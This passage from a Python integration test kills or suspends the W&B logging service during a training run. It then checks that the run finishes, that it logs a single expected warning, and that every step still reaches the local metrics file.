        assert services, f"no wandb-core under the run: the test would prove nothing\n{log.read_text()[-3000:]}"
        for service in services:
            service.send_signal(signal.SIGKILL if fault == "killed" else signal.SIGSTOP)
        if fault == "killed":
            psutil.wait_procs(services, timeout=10)
        resume.touch()
        try:
            assert once.wait(timeout=120) == 0, log.read_text()[-4000:]
        except subprocess.TimeoutExpired:
            raise AssertionError(f"run-once never ended:\n{log.read_text()[-3000:]}") from None
    finally:
        if once.poll() is None:
            once.kill()
        for service in services:  # a stopped wandb-core outlives the run
            try:
                service.send_signal(signal.SIGCONT)
                service.kill()
            except psutil.Error:
                pass
    text = log.read_text()
    assert "Traceback" not in text and "Exception ignored" not in text, text[-4000:]
    said = [line for line in text.splitlines() if "W&B" in line and " WARNING " in line]
    expected = "metrics.jsonl only" if fault == "killed" else "did not finish within 5 s; the local metrics file is complete"
    assert len(said) == 1 and expected in said[0], said[:5]
    state = load_state(tmp_path / "state.json")
    assert state.total_training_runs == 1 and state.total_steps > 3
    records = [json.loads(line) for line in (tmp_path / "metrics.jsonl").read_text().splitlines()]
    logged = sorted({record["step"] for record in records if "train/loss" in record})
    assert logged == list(range(1, state.total_steps + 1))
